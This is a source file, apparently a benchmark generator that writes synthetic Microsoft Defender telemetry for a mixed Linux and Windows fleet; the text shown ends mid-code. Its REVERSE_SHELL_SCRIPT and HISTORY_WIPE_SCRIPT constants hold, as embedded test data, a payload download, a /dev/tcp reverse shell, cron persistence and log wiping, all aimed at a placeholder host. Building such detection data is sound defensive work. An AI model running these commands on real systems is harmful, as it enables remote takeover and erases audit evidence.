#!/usr/bin/env node
/**
 * Deterministic generator of realistic Microsoft Defender for Endpoint streams for the benchmark
 * (and for tests that need a fleet-sized input). No dependencies; the same options give the same
 * bytes on every machine.
 *
 * Output: streaming-API storage records, one per line, CRLF — what a storage-account export
 * (`PT1H.json` blobs) holds: `{time, tenantId, operationName, category:"AdvancedHunting-<Table>",
 * _TimeReceivedBySvc, properties, Tenant}`. Records are in event-time order across the fleet (as a
 * consumer of one Event Hub sees them), `time`/`_TimeReceivedBySvc` 40–170 s later than the event.
 *
 * The fleet: Linux (Ubuntu/RHEL servers, some running a Wazuh/OpenSearch stack) and Windows
 * (servers, workstations) devices. Background traffic is ProcessCreated, file, network, logon and
 * registry rows with real column sets (40–70 keys on process rows, POSIX data inside
 * AdditionalFields on Linux); periodic DeviceInfo and DeviceNetworkInfo snapshots with ReportIds
 * beyond 2^53 written as bare integers; the benign wazuh1 patterns (sysstat sa1 every 10 minutes,
 * cron root logons, Defender's own inventory and log4j scripts with KB-sized ScriptContent bodies,
 * Lucene segment deletions by the indexer's JVM); and a few attack chains (reverse shell, SSH brute
 * force, history wiping).
 *
 * CLI:    node bench/generate.mjs --rows 100000 [--out FILE] [--seed N] [--devices N]
 * Module: `generateLines(options)` (a generator of record lines) and `generateFile(path, options)`
 *         (streams to disk with back-pressure; never builds the file in memory).
 */
import { createHash } from 'node:crypto';
import { createWriteStream, existsSync, mkdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Bumped whenever the output for the same options changes (the bench regenerates stale files). */
export const GENERATOR_VERSION = 1;

const HERE = dirname(fileURLToPath(import.meta.url));
const TENANT = '5d0c7f3e-8a21-4b6e-9f14-c3a7e2b95d68';
/** Fleet event rate per device (rows/s): 120 devices ≈ 96 rows/s, so 1M rows ≈ 2.9 hours of telemetry. */
const RATE_PER_DEVICE = 0.8;
const BIG_REPORT_ID_BASE = 639199803770463703n;

// ---------------------------------------------------------------------------------------------
// Seeded PRNG (sfc32) and helpers

function sfc32(a, b, c, d) {
  return () => {
    a |= 0;
    b |= 0;
    c |= 0;
    d |= 0;
    const t = (((a + b) | 0) + d) | 0;
    d = (d + 1) | 0;
    a = b ^ (b >>> 9);
    b = (c + (c << 3)) | 0;
    c = (c << 21) | (c >>> 11);
    c = (c + t) | 0;
    return (t >>> 0) / 4294967296;
  };
}

function makeRng(seed) {
  const rnd = sfc32(0x9e3779b9, 0x243f6a88, 0xb7e15162, seed >>> 0);
  for (let i = 0; i < 15; i++) rnd();
  const r = {
    next: rnd,
    int: (lo, hi) => lo + Math.floor(rnd() * (hi - lo + 1)),
    pick: (list) => list[Math.floor(rnd() * list.length)],
    chance: (p) => rnd() < p,
    hex: (n) => {
      let s = '';
      while (s.length < n)
        s += Math.floor(rnd() * 0x100000000)
          .toString(16)
          .padStart(8, '0');
      return s.slice(0, n);
    },
    /** Pick by weight: `[[weight, value], …]`. */
    weighted: (pairs) => {
      let total = 0;
      for (const [w] of pairs) total += w;
      let x = rnd() * total;
      for (const [w, v] of pairs) {
        x -= w;
        if (x < 0) return v;
      }
      return pairs[pairs.length - 1][1];
    },
  };
  return r;
}

const HASH_CACHE = new Map();
/** Stable fake hashes of a binary (derived from its path, so the same binary always hashes alike). */
function hashesOf(path) {
  let h = HASH_CACHE.get(path);
  if (!h) {
    const sha256 = createHash('sha256').update(`tripline-bench:${path}`).digest('hex');
    h = {
      sha1: sha256.slice(0, 40),
      sha256,
      md5: sha256.slice(20, 52),
      size: 20_000 + (Number.parseInt(sha256.slice(0, 6), 16) % 4_000_000),
    };
    HASH_CACHE.set(path, h);
  }
  return h;
}

/** Whole second (epoch ms) the run starts at; times are 100 ns ticks relative to it (safe integers). */
let BASE_MS = 0;

/** ISO timestamp of run-relative 100 ns ticks, 0–7 fractional digits (trailing zeros dropped, as Defender writes). */
function iso(ticks, keepAll = false) {
  const sec = Math.floor(ticks / 10_000_000);
  const base = new Date(BASE_MS + sec * 1000).toISOString().slice(0, 19);
  const frac7 = String(ticks - sec * 10_000_000).padStart(7, '0');
  const frac = keepAll ? frac7 : frac7.replace(/0+$/, '');
  return `${base}${frac ? `.${frac}` : ''}Z`;
}

function basename(p) {
  const i = Math.max(p.lastIndexOf('/'), p.lastIndexOf('\\'));
  return i >= 0 ? p.slice(i + 1) : p;
}

// ---------------------------------------------------------------------------------------------
// Script bodies (ScriptContent rows carry the whole script, several KB)

function loadScripts() {
  const dir = join(HERE, '..', 'examples', 'wazuh1', 'scripts');
  const read = (name, fallbackKb) => {
    const p = join(dir, name);
    if (existsSync(p)) return readFileSync(p, 'utf8');
    // Fallback when the example is absent: a deterministic body of the same order of size.
    let s = `#!/bin/sh\n# ${name}\n`;
    for (let i = 0; s.length < fallbackKb * 1024; i++)
      s += `echo "step ${i}: collecting ${name} data" >> /var/log/${name}.log\n`;
    return s;
  };
  return {
    sa1: read('sa1', 1),
    debianSa1: read('debian-sa1', 1),
    getJar: read('get_jar_data_list.py', 3),
    findPython: read('find_python_package.py', 3),
    openFiles: read('open_files.py', 4),
  };
}

const SCRIPTS = loadScripts();

const ADMIN_SCRIPT = (() => {
  // A benign, realistic ops script of ~6 KB (backup rotation), as ScriptContent of admin cron jobs.
  const lines = [
    '#!/bin/bash',
    '# /usr/local/sbin/rotate-backups - keep 14 daily and 8 weekly archives',
    'set -euo pipefail',
    'umask 077',
    '',
  ];
  lines.push('BACKUP_ROOT=/srv/backups', 'KEEP_DAILY=14', 'KEEP_WEEKLY=8', 'LOG=/var/log/rotate-backups.log', '');
  lines.push('log() { printf "%s %s\\n" "$(date -Is)" "$*" >> "$LOG"; }', '');
  for (const kind of ['postgres', 'etc', 'home', 'wazuh-indexer-snapshots', 'www', 'letsencrypt']) {
    lines.push(`rotate_${kind.replace(/-/g, '_')}() {`);
    lines.push(`  local dir="$BACKUP_ROOT/${kind}"`);
    lines.push('  [ -d "$dir" ] || { log "missing $dir"; return 0; }');
    lines.push(
      '  find "$dir/daily" -maxdepth 1 -type f -name "*.tar.zst" -printf "%T@ %p\\n" | sort -rn | tail -n +$((KEEP_DAILY + 1)) | cut -d" " -f2- | while read -r f; do',
    );
    lines.push('    log "removing old daily archive $f"; rm -f -- "$f"');
    lines.push('  done');
    lines.push(
      '  find "$dir/weekly" -maxdepth 1 -type f -name "*.tar.zst" -printf "%T@ %p\\n" | sort -rn | tail -n +$((KEEP_WEEKLY + 1)) | cut -d" " -f2- | while read -r f; do',
    );
    lines.push('    log "removing old weekly archive $f"; rm -f -- "$f"');
    lines.push('  done');
    lines.push(`  du -sh "$dir" | while read -r size _; do log "${kind}: $size in use"; done`);
    lines.push('}', '');
  }
  lines.push(
    'for fn in $(declare -F | awk \'{print $3}\' | grep ^rotate_); do "$fn"; done',
    'log "rotation finished"',
    '',
  );
  return lines.join('\n');
})();

const REVERSE_SHELL_SCRIPT = [
  '#!/bin/bash',
  '# update helper',
  'cd /tmp || exit 0',
  'curl -fsSL http://203.0.113.77:8080/x.sh -o /tmp/.x.sh && chmod +x /tmp/.x.sh',
  'nohup /tmp/.x.sh >/dev/null 2>&1 &',
  'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
  '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://203.0.113.77:8080/x.sh | bash") | crontab -',
  '',
].join('\n');

const HISTORY_WIPE_SCRIPT = [
  '#!/bin/bash',
  'unset HISTFILE',
  'export HISTSIZE=0',
  'history -c',
  'cat /dev/null > ~/.bash_history',
  'rm -f /root/.bash_history /home/*/.bash_history',
  'ln -sf /dev/null ~/.bash_history',
  'sed -i "/203.0.113.77/d" /var/log/auth.log',
  '',
].join('\n');

// ---------------------------------------------------------------------------------------------
// The fleet

const LINUX_BINARIES = [
  '/usr/bin/ls',
  '/usr/bin/cat',
  '/usr/bin/grep',
  '/usr/bin/awk',
  '/usr/bin/sed',
  '/usr/bin/find',
  '/usr/bin/tar',
  '/usr/bin/gzip',
  '/usr/bin/curl',
  '/usr/bin/systemctl',
  '/usr/bin/journalctl',
  '/usr/sbin/logrotate',
  '/usr/bin/python3.10',
  '/usr/bin/perl',
  '/usr/bin/dpkg',
  '/usr/bin/apt-get',
  '/usr/bin/git',
  '/usr/bin/ssh',
  '/usr/bin/rsync',
  '/usr/bin/date',
  '/usr/bin/hostname',
  '/usr/bin/uname',
  '/usr/bin/id',
  '/usr/bin/df',
  '/usr/bin/du',
  '/usr/bin/free',
  '/usr/bin/ps',
];
const LINUX_PARENTS = [
  ['/usr/bin/bash', 'bash'],
  ['/usr/bin/dash', 'dash'],
  ['/usr/lib/systemd/systemd', 'systemd'],
  ['/usr/sbin/cron', 'cron'],
  ['/usr/sbin/sshd', 'sshd'],
  ['/usr/bin/python3.10', 'python3.10'],
  ['/usr/bin/containerd-shim-runc-v2', 'containerd-shim-runc-v2'],
];
const WINDOWS_BINARIES = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
  'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Windows\\System32\\RuntimeBroker.exe',
  'C:\\Windows\\System32\\backgroundTaskHost.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
  'C:\\Windows\\System32\\SearchProtocolHost.exe',
  'C:\\Windows\\System32\\sc.exe',
  'C:\\Windows\\System32\\net.exe',
  'C:\\Windows\\System32\\gpupdate.exe',
  'C:\\Windows\\System32\\msiexec.exe',
  'C:\\Program Files\\7-Zip\\7z.exe',
];
const WINDOWS_PARENTS = [
  'C:\\Windows\\System32\\services.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe',
];
const LINUX_USERS = [
  { name: 'root', uid: 0, group: 'root', gid: 0 },
  { name: 'azureuser', uid: 1000, group: 'azureuser', gid: 1000 },
  { name: 'deploy', uid: 1001, group: 'deploy', gid: 1001 },
  { name: 'www-data', uid: 33, group: 'www-data', gid: 33 },
  { name: 'postgres', uid: 113, group: 'postgres', gid: 120 },
  { name: 'wazuh-indexer', uid: 114, group: 'wazuh-indexer', gid: 121 },
];
const WINDOWS_USERS = ['system', 'network service', 'local service', 'jdoe', 'asmith', 'svc-backup', 'mbrown', 'tkhan'];
const REMOTE_HOSTS = [
  '20.42.73.25',
  '52.168.117.170',
  '13.107.4.50',
  '40.126.31.8',
  '151.101.1.69',
  '140.82.112.3',
  '104.16.132.229',
  '10.0.1.4',
  '10.0.1.5',
  '10.0.2.17',
];
const URLS = [
  'login.microsoftonline.com',
  'winatp-gw-eus.microsoft.com',
  'packages.microsoft.com',
  'archive.ubuntu.com',
  'github.com',
  'api.github.com',
  'pypi.org',
  'registry.npmjs.org',
];

function makeFleet(rng, count) {
  const fleet = [];
  for (let i = 0; i < count; i++) {
    const linux = i % 5 < 3; // 60 % Linux
    const idx = String(i).padStart(3, '0');
    const kind = linux
      ? i % 7 === 0
        ? 'indexer'
        : rng.pick(['web', 'db', 'app', 'build'])
      : rng.pick(['srv', 'ws', 'ws', 'ws']);
    const short = linux
      ? `${kind}-${idx}`
      : `${kind === 'srv' ? 'WINSRV' : 'DESKTOP'}-${idx}${rng.hex(4).toUpperCase()}`;
    const azure = linux || kind === 'srv';
    const name = linux
      ? `${short}.x0rsjvjofsvujdf53bjf3swsje.bx.internal.cloudapp.net`
      : `${short.toLowerCase()}.corp.contoso.com`;
    const mac = rng.hex(12).toUpperCase();
    fleet.push({
      index: i,
      id: rng.hex(40),
      name,
      short: linux ? short : short.toLowerCase(),
      linux,
      kind,
      azure,
      unassigned: i % 9 === 0,
      group:
        i % 9 === 0 ? 'UnassignedGroup' : linux ? 'linux-servers' : kind === 'srv' ? 'windows-servers' : 'workstations',
      publicIp: i % 4 === 0 ? `20.${60 + (i % 100)}.${(i * 7) % 250}.${(i * 13) % 250}` : undefined,
      privateIp: `10.${i >> 8}.${(i >> 4) & 15}.${(i & 15) + 4}`,
      mac,
      osBuild: linux ? 0 : 20348,
      reportId: 1000 + rng.int(0, 50_000),
      bigReportId: BIG_REPORT_ID_BASE + BigInt(i) * 1_000_003n,
      pid: 10_000 + rng.int(0, 200_000),
      sidBase: `S-1-5-21-${1_000_000_000 + rng.int(0, 999_999_999)}-${1_000_000_000 + rng.int(0, 999_999_999)}-${1_000_000_000 + rng.int(0, 999_999_999)}`,
      cronPid: 600 + rng.int(0, 400),
      javaPid: 1500 + rng.int(0, 800),
      wdavPid: 900 + rng.int(0, 300),
      segGen: rng.int(100, 9_000),
    });
  }
  return fleet;
}

// ---------------------------------------------------------------------------------------------
// Row builders

function linuxAccount(dev, u) {
  return {
    Sid: u.uid === 0 ? 'S-1-5-18' : `${dev.sidBase}-${u.uid}`,
    Name: u.name,
    DomainName: dev.short,
    LogonId: 0,
    PosixUserId: u.uid,
    PrimaryPosixGroup: { Name: u.group, PosixGroupId: u.gid },
  };
}

function posixFields(dev, u, initPid, pid, cwd, terminal, effectiveGroup) {
  const acct = linuxAccount(dev, u);
  const group = effectiveGroup ?? { Name: u.group, PosixGroupId: u.gid };
  const af = {
    InitiatingProcessPosixEffectiveUser: acct,
    InitiatingProcessPosixEffectiveGroup: group,
    InitiatingProcessPosixProcessGroupId: initPid,
    InitiatingProcessPosixSessionId: initPid,
    InitiatingProcessCurrentWorkingDirectory: cwd,
  };
  if (terminal) af.InitiatingProcessPosixAttachedTerminal = terminal;
  if (pid !== undefined) {
    af.ProcessPosixEffectiveUser = acct;
    af.ProcessPosixEffectiveGroup = group;
    af.ProcessPosixProcessGroupId = initPid;
    af.ProcessPosixSessionId = initPid;
    af.ProcessCurrentWorkingDirectory = cwd;
    if (terminal) af.ProcessPosixAttachedTerminal = terminal;
  }
  return JSON.stringify(af);
}

class Fleet {
  constructor(options) {
    this.rng = makeRng(options.seed ?? 1);
    this.devices = makeFleet(this.rng, options.devices ?? 120);
    this.startMs = Math.floor(Date.parse(options.start ?? '2025-11-07T00:00:00Z') / 1000) * 1000;
  }

  /** Common head of every event row. */
  head(dev, ticks, action) {
    dev.reportId += 1 + (this.rng.next() < 0.3 ? this.rng.int(1, 5) : 0);
    const row = { DeviceId: dev.id, DeviceName: dev.name };
    if (action !== undefined) row.ActionType = action;
    row.Timestamp = iso(ticks);
    return row;
  }

  /** The shared InitiatingProcess* block. */
  initiating(row, dev, ticks, p) {
    const h = hashesOf(p.path);
    const name = basename(p.path);
    row.InitiatingProcessId = p.pid;
    row.InitiatingProcessCreationTime = iso(ticks - this.rng.int(10_000, 600_000_000));
    row.InitiatingProcessFileName = name;
    row.InitiatingProcessFolderPath = dev.linux ? p.path.toLowerCase() : p.path.toLowerCase();
    row.InitiatingProcessCommandLine = p.cmd;
    row.InitiatingProcessSHA1 = h.sha1;
    row.InitiatingProcessSHA256 = h.sha256;
    row.InitiatingProcessMD5 = h.md5;
    row.InitiatingProcessFileSize = h.size;
    if (dev.linux) {
      row.InitiatingProcessAccountName = p.user.name;
      row.InitiatingProcessAccountDomain = dev.short;
      row.InitiatingProcessAccountSid = p.user.uid === 0 ? 'S-1-5-18' : `${dev.sidBase}-${p.user.uid}`;
      row.InitiatingProcessIntegrityLevel = null;
      row.InitiatingProcessTokenElevation = 'None';
      row.InitiatingProcessSignerType = 'Unknown';
      row.InitiatingProcessSignatureStatus = 'Unknown';
    } else {
      const system = p.user === 'system' || p.user === 'network service' || p.user === 'local service';
      row.InitiatingProcessAccountName = p.user;
      row.InitiatingProcessAccountDomain = system ? 'nt authority' : 'contoso';
      row.InitiatingProcessAccountSid = system ? 'S-1-5-18' : `${dev.sidBase}-${1100 + WINDOWS_USERS.indexOf(p.user)}`;
      row.InitiatingProcessAccountUpn = system ? null : `${p.user}@contoso.com`;
      row.InitiatingProcessAccountObjectId = system
        ? null
        : `${hashesOf(p.user).sha1.slice(0, 8)}-1f2e-4a3b-9c8d-${hashesOf(p.user).md5.slice(0, 12)}`;
      row.InitiatingProcessIntegrityLevel = system ? 'System' : 'Medium';
      row.InitiatingProcessTokenElevation = system ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited';
      row.InitiatingProcessSignerType = 'OsVendor';
      row.InitiatingProcessSignatureStatus = 'Valid';
      row.InitiatingProcessVersionInfoCompanyName = 'Microsoft Corporation';
      row.InitiatingProcessVersionInfoProductName = 'Microsoft® Windows® Operating System';
      row.InitiatingProcessVersionInfoProductVersion = '10.0.20348.2849';
      row.InitiatingProcessVersionInfoInternalFileName = name;
      row.InitiatingProcessVersionInfoOriginalFileName = name;
      row.InitiatingProcessVersionInfoFileDescription = name.replace(/\.exe$/i, '');
    }
    row.InitiatingProcessParentId = p.ppid;
    row.InitiatingProcessParentFileName = p.parent;
    row.InitiatingProcessParentCreationTime = iso(ticks - this.rng.int(600_000_000, 3_000_000_000_000));
    row.InitiatingProcessLogonId = dev.linux ? 0 : this.rng.int(100_000, 9_999_999);
    if (!dev.linux) row.InitiatingProcessSessionId = this.rng.int(0, 3);
    row.IsInitiatingProcessRemoteSession = false;
    row.InitiatingProcessUniqueId = dev.linux
      ? '0'
      : String(this.rng.int(1_000_000, 99_999_999) * 1000 + this.rng.int(0, 999));
  }

  tail(row, dev, reportId = dev.reportId) {
    row.ReportId = reportId;
    row.MachineGroup = dev.group;
    return row;
  }

  /** A process the device runs as "initiating" context. */
  randomParent(dev) {
    const rng = this.rng;
    if (dev.linux) {
      const [path, name] = rng.pick(LINUX_PARENTS);
      const user = name === 'sshd' || name === 'cron' || name === 'systemd' ? LINUX_USERS[0] : rng.pick(LINUX_USERS);
      return {
        path,
        pid: dev.pid++,
        ppid: rng.int(1, 5000),
        parent: name === 'systemd' ? 'init' : 'systemd',
        cmd: name === 'bash' ? '-bash' : path,
        user,
      };
    }
    const path = rng.pick(WINDOWS_PARENTS);
    return {
      path,
      pid: dev.pid++,
      ppid: rng.int(4, 9000),
      parent: rng.pick(['services.exe', 'wininit.exe', 'explorer.exe', 'userinit.exe']),
      cmd: `"${basename(path)}"`,
      user: rng.pick(WINDOWS_USERS),
    };
  }

  processRow(dev, ticks, parent, image, cmd, opts = {}) {
    const rng = this.rng;
    const row = this.head(dev, ticks, 'ProcessCreated');
    const h = hashesOf(image);
    const pid = opts.samePid ? parent.pid : dev.pid++;
    row.FileName = basename(image);
    row.FolderPath = image;
    row.SHA1 = h.sha1;
    row.SHA256 = h.sha256;
    row.MD5 = h.md5;
    row.FileSize = h.size;
    row.ProcessId = pid;
    row.ProcessCommandLine = cmd;
    row.ProcessCreationTime = row.Timestamp;
    const user = opts.user ?? parent.user;
    if (dev.linux) {
      row.ProcessIntegrityLevel = null;
      row.ProcessTokenElevation = 'None';
      row.AccountDomain = dev.short;
      row.AccountName = user.name;
      row.AccountSid = user.uid === 0 ? 'S-1-5-18' : `${dev.sidBase}-${user.uid}`;
      row.LogonId = 0;
    } else {
      const system = user === 'system';
      row.ProcessIntegrityLevel = system ? 'System' : 'Medium';
      row.ProcessTokenElevation = system ? 'TokenElevationTypeDefault' : 'TokenElevationTypeLimited';
      row.AccountDomain = system ? 'nt authority' : 'contoso';
      row.AccountName = user;
      row.AccountSid = system ? 'S-1-5-18' : `${dev.sidBase}-1104`;
      row.AccountUpn = system ? null : `${user}@contoso.com`;
      row.LogonId = rng.int(100_000, 9_999_999);
      row.ProcessVersionInfoCompanyName = 'Microsoft Corporation';
      row.ProcessVersionInfoProductName = 'Microsoft® Windows® Operating System';
      row.ProcessVersionInfoProductVersion = '10.0.20348.2849';
      row.ProcessVersionInfoInternalFileName = basename(image);
      row.ProcessVersionInfoOriginalFileName = basename(image);
      row.ProcessVersionInfoFileDescription = basename(image).replace(/\.exe$/i, '');
    }
    this.initiating(row, dev, ticks, parent);
    if (!dev.linux) row.CreatedProcessSessionId = rng.int(0, 3);
    row.IsProcessRemoteSession = false;
    row.ProcessUniqueId = dev.linux ? '0' : String(rng.int(1_000_000, 99_999_999) * 1000 + rng.int(0, 999));
    row.AdditionalFields = dev.linux
      ? posixFields(
          dev,
          user,
          parent.pid,
          pid,
          opts.cwd ?? (user.uid === 0 ? '/' : `/home/${user.name}`),
          opts.terminal,
          opts.effectiveGroup,
        )
      : null;
    return this.tail(row, dev);
  }

  fileRow(dev, ticks, parent, action, path, extra = {}) {
    const row = this.head(dev, ticks, action);
    const h = hashesOf(path);
    row.FileName = basename(path);
    row.FolderPath = path;
    if (action !== 'FileDeleted') {
      row.SHA1 = h.sha1;
      row.SHA256 = h.sha256;
      row.MD5 = h.md5;
      row.FileSize = h.size % 200_000;
    }
    Object.assign(row, extra);
    this.initiating(row, dev, ticks, parent);
    row.RequestProtocol = dev.linux ? null : 'Local';
    row.RequestAccountName = dev.linux ? null : row.InitiatingProcessAccountName;
    row.RequestAccountDomain = dev.linux ? null : 'NT AUTHORITY';
    row.AdditionalFields = dev.linux
      ? posixFields(dev, parent.user, parent.pid, undefined, '/', undefined)
      : '{"FileType":"Unknown"}';
    return this.tail(row, dev);
  }

  networkRow(dev, ticks, parent, action, remoteIp, remotePort, extra = {}) {
    const rng = this.rng;
    const row = this.head(dev, ticks, action);
    const inbound = action === 'InboundConnectionAccepted' || action === 'ListeningConnectionCreated';
    row.RemoteIP = remoteIp;
    row.RemotePort = remotePort;
    row.RemoteUrl = extra.RemoteUrl ?? (remoteIp.startsWith('10.') ? '' : rng.chance(0.5) ? rng.pick(URLS) : '');
    row.LocalIP = dev.privateIp;
    row.LocalPort = inbound ? remotePort : rng.int(32_768, 60_999);
    row.Protocol = 'Tcp';
    row.LocalIPType = 'Private';
    row.RemoteIPType = remoteIp.startsWith('10.') ? 'Private' : 'Public';
    this.initiating(row, dev, ticks, parent);
    row.AdditionalFields = dev.linux ? posixFields(dev, parent.user, parent.pid, undefined, '/', undefined) : null;
    return this.tail(row, dev);
  }

  logonRow(dev, ticks, parent, action, account, extra = {}) {
    const row = this.head(dev, ticks, action);
    row.LogonType = extra.LogonType ?? (dev.linux ? 'Local' : 'Interactive');
    row.AccountDomain = dev.linux ? dev.short : 'contoso';
    row.AccountName = account.name ?? account;
    row.AccountSid = dev.linux
      ? account.uid === 0
        ? 'S-1-5-18'
        : `${dev.sidBase}-${account.uid ?? 1999}`
      : `${dev.sidBase}-1104`;
    row.Protocol = dev.linux ? null : 'Negotiate';
    if (action === 'LogonFailed') row.FailureReason = 'InvalidUserNameOrPassword';
    row.IsLocalAdmin = account.uid === 0;
    row.LogonId = dev.linux ? 0 : this.rng.int(100_000, 9_999_999);
    row.RemoteDeviceName = extra.RemoteDeviceName ?? '';
    row.RemoteIP = extra.RemoteIP ?? '';
    row.RemoteIPType = extra.RemoteIP ? (extra.RemoteIP.startsWith('10.') ? 'Private' : 'Public') : null;
    row.RemotePort = extra.RemotePort ?? null;
    this.initiating(row, dev, ticks, parent);
    if (dev.linux) {
      const uid = account.uid ?? 1999;
      row.AdditionalFields = JSON.stringify({
        Terminal: extra.Terminal ?? (extra.RemoteIP ? 'ssh' : 'cron'),
        PosixUserId: uid,
        PosixPrimaryGroupName: account.group ?? account.name,
        PosixPrimaryGroupId: account.gid ?? uid,
        PosixSecondaryGroups: '[]',
      });
    } else row.AdditionalFields = '{"IsLocalLogon":true}';
    return this.tail(row, dev);
  }

  registryRow(dev, ticks, parent) {
    const rng = this.rng;
    const action = rng.weighted([
      [6, 'RegistryValueSet'],
      [2, 'RegistryKeyCreated'],
      [1, 'RegistryValueDeleted'],
    ]);
    const row = this.head(dev, ticks, action);
    const key = rng.pick([
      'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update',
      'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings',
      'HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-1104\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Roaming',
      'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates',
    ]);
    row.RegistryKey = key;
    row.RegistryValueType = 'String';
    row.RegistryValueName = rng.pick(['LastSuccessTime', 'Version', 'SignatureLocation', 'Flags']);
    row.RegistryValueData = action === 'RegistryValueSet' ? `${rng.int(1, 99999)}` : '';
    row.PreviousRegistryKey = key;
    row.PreviousRegistryValueName = row.RegistryValueName;
    row.PreviousRegistryValueData = '';
    this.initiating(row, dev, ticks, parent);
    return this.tail(row, dev);
  }

  scriptRow(dev, ticks, parent, body, extra = {}) {
    const row = this.head(dev, ticks, 'ScriptContent');
    this.initiating(row, dev, ticks, parent);
    row.AdditionalFields = JSON.stringify({ ScriptContent: body });
    row.SHA256 = createHash('sha256').update(body).digest('hex');
    Object.assign(row, extra);
    row.IsProcessRemoteSession = false;
    return this.tail(row, dev);
  }

  deviceInfoRow(dev, ticks) {
    const row = { DeviceId: dev.id, DeviceName: dev.name, Timestamp: iso(ticks) };
    row.ClientVersion = dev.linux ? '101.25092.0003' : '10.8760.20348.2849';
    row.PublicIP = dev.publicIp ?? '';
    row.OSArchitecture = '64-bit';
    row.OSPlatform = dev.linux ? 'Linux' : dev.kind === 'srv' ? 'WindowsServer2022' : 'Windows11';
    row.OSBuild = dev.osBuild || null;
    row.IsAzureADJoined = !dev.linux;
    row.JoinType = dev.linux ? null : 'Hybrid Azure AD Join';
    row.AadDeviceId = dev.linux
      ? null
      : `${dev.id.slice(0, 8)}-${dev.id.slice(8, 12)}-4${dev.id.slice(13, 16)}-a${dev.id.slice(17, 20)}-${dev.id.slice(20, 32)}`;
    row.LoggedOnUsers = dev.linux
      ? JSON.stringify(
          dev.index % 11 === 0 ? [{ UserName: 'LOGIN' }, { UserName: 'azureuser' }] : [{ UserName: 'azureuser' }],
        )
      : JSON.stringify([{ UserName: 'jdoe', DomainName: 'CONTOSO', Sid: `${dev.sidBase}-1104` }]);
    row.OSVersion = dev.linux ? '22.04' : '10.0';
    row.MachineGroup = dev.group;
    row.ReportId = `__BIG__${dev.bigReportId++}`;
    row.OnboardingStatus = 'Onboarded';
    row.AdditionalFields = dev.linux ? '{"KernelVersion":"6.8.0-1041-azure"}' : null;
    row.DeviceCategory = 'Endpoint';
    row.DeviceType = dev.linux && dev.index % 6 !== 0 ? 'Server' : dev.kind === 'srv' ? 'Server' : 'Workstation';
    row.OSDistribution = dev.linux ? 'Ubuntu' : null;
    row.OSVersionInfo = dev.linux ? '22.04.5 LTS (Jammy Jellyfish)' : '21H2';
    row.IsInternetFacing = dev.publicIp !== undefined;
    row.SensorHealthState = 'Active';
    row.IsExcluded = false;
    row.ExposureLevel = dev.publicIp ? 'Medium' : 'Low';
    row.AssetValue = 'Normal';
    row.DeviceDynamicTags = '[]';
    row.ConnectivityType = 'Streamlined';
    row.AzureResourceId = dev.azure
      ? `/subscriptions/7c4b1f2e-0d3a-4e5f-8a9b-1c2d3e4f5a6b/resourceGroups/rg-fleet/providers/Microsoft.Compute/virtualMachines/${dev.short}`
      : null;
    row.AzureVmId = dev.azure
      ? `${dev.id.slice(0, 8)}-${dev.id.slice(8, 12)}-${dev.id.slice(12, 16)}-${dev.id.slice(16, 20)}-${dev.id.slice(20, 32)}`
      : null;
    row.CloudPlatforms = dev.azure ? '["Azure"]' : '[]';
    row.HardwareUuid = `${dev.id.slice(4, 12)}-${dev.id.slice(12, 16)}-${dev.id.slice(16, 20)}-${dev.id.slice(20, 24)}-${dev.id.slice(24, 36)}`;
    row.Model = dev.azure ? 'Virtual Machine' : 'Latitude 7440';
    row.Vendor = dev.azure ? 'Microsoft Corporation' : 'Dell Inc.';
    return row;
  }

  networkInfoRows(dev, ticks) {
    const rows = [];
    const adapters = dev.linux && dev.azure ? ['eth0', `enP${30000 + dev.index}s1`] : ['Ethernet'];
    for (const name of adapters) {
      const vf = name.startsWith('enP');
      const row = { DeviceId: dev.id, DeviceName: dev.name, Timestamp: iso(ticks + rows.length) };
      row.NetworkAdapterName = name;
      row.MacAddress = dev.mac; // Accelerated Networking: the VF shares the synthetic adapter's MAC
      row.NetworkAdapterType = vf ? 'Ethernet' : 'Ethernet';
      row.NetworkAdapterStatus = 'Up';
      row.TunnelType = 'None';
      row.ConnectedNetworks = vf
        ? null
        : JSON.stringify([{ Name: 'contoso.local', Category: 'Domain', IsConnectedToInternet: true }]);
      row.DnsAddresses = vf ? null : '["168.63.129.16"]';
      row.IPv4Dhcp = vf ? null : '168.63.129.16';
      row.DefaultGateways = vf ? null : `["${dev.privateIp.replace(/\.\d+$/, '.1')}"]`;
      row.IPAddresses = vf
        ? '[]'
        : JSON.stringify([
            { IPAddress: dev.privateIp, SubnetPrefix: 24, AddressType: 'Private' },
            {
              IPAddress: `fe80::20d:3aff:fe${dev.mac.slice(6, 8).toLowerCase()}:${dev.mac.slice(8, 12).toLowerCase()}`,
              SubnetPrefix: 64,
              AddressType: 'LinkLocal',
            },
          ]);
      row.ReportId = `__BIG__${dev.bigReportId++}`;
      row.NetworkAdapterVendor = vf ? 'Mellanox Technologies' : 'Microsoft';
      row.MachineGroup = dev.group;
      rows.push(row);
    }
    return rows;
  }
}

// ---------------------------------------------------------------------------------------------
// The stream

/** Min-heap of scheduled tasks by time (ticks as Number — 100 ns ticks of 2025 fit in 2^53). */
class Heap {
  items = [];
  push(t) {
    const a = this.items;
    a.push(t);
